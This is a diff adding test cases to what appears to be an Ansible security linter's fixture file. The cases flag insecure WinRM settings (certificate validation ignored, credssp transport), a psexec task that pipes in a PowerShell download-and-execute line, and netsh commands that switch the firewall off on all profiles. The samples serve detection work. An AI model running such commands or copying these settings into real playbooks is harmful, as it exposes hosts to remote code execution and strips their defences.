@@ -55,6 +55,38 @@ const ways: readonly Way[] = [
     fixed: task('  win_ping:\n  vars:\n    ansible_port: 5986\n    ansible_winrm_server_cert_validation: validate\n'),
   },
   {
+    name: 'how to connect to a host that is made',
+    file: 'tasks/main.yml',
+    text:
+      task('  ansible.builtin.add_host:\n    name: w1\n    ansible_winrm_server_cert_validation: «ignore»\n') +
+      task(
+        '  ansible.controller.host:\n    name: w2\n    variables:\n      ansible_connection: winrm\n      ansible_winrm_transport: «credssp»\n',
+      ),
+    rules: 'tls/certificate-check-off remote-access/winrm-weak-authentication',
+    fixed:
+      task('  ansible.builtin.add_host:\n    name: w1\n    ansible_winrm_server_cert_validation: validate\n') +
+      task(
+        '  ansible.controller.host:\n    name: w2\n    variables:\n      ansible_connection: winrm\n      ansible_winrm_transport: kerberos\n',
+      ),
+  },
+  {
+    name: 'psexec with a script at its input',
+    file: 'tasks/main.yml',
+    text: task(
+      "  community.windows.psexec:\n    hostname: w1\n    executable: powershell.exe\n    arguments: '-'\n    stdin: |\n      $url = 'https://example.org/x.ps1'\n      Invoke-Expression («(New-Object Net.WebClient).DownloadString($url)»)\n",
+    ),
+    rules: 'download/download-and-execute',
+  },
+  {
+    name: 'psexec with a command line, and win_psexec',
+    file: 'tasks/main.yml',
+    text:
+      task(
+        '  psexec:\n    hostname: w1\n    executable: netsh\n    arguments: advfirewall set allprofiles state «off»\n',
+      ) + task('  win_psexec:\n    command: netsh advfirewall set allprofiles state «off»\n    hostnames: [w1]\n'),
+    rules: 'firewall/firewall-off firewall/firewall-off',
+  },
+  {
     name: 'win_certificate_store',
     file: 'tasks/main.yml',
     text: task(
